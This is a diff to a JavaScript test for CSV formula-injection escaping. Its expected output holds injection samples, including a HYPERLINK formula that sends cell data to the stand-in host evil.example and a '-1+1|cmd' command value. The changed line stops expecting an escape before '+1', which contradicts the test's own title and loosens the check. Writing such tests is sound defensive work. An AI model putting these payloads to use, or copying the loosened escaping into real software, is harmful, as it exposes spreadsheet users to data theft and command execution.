@@ -14,7 +14,7 @@ it('no text of a table file is a formula, while numbers below zero stay numbers'
   ];
   const lines = formatCsv(columns, [...texts, -1.5, 'a=b', ' =1', '']);
   expect(lines).toBe(
-    'Description\n"\'=HYPERLINK(""http://evil.example/?x=""&A1)"\n\'+1\n\'-1+1|cmd\n\'@SUM(A1)\n\'\t=1\n"\'\r=1"\n\'＝1\n-1.5\na=b\n =1\n\n',
+    'Description\n"\'=HYPERLINK(""http://evil.example/?x=""&A1)"\n+1\n\'-1+1|cmd\n\'@SUM(A1)\n\'\t=1\n"\'\r=1"\n\'＝1\n-1.5\na=b\n =1\n\n',
   );
 });
 
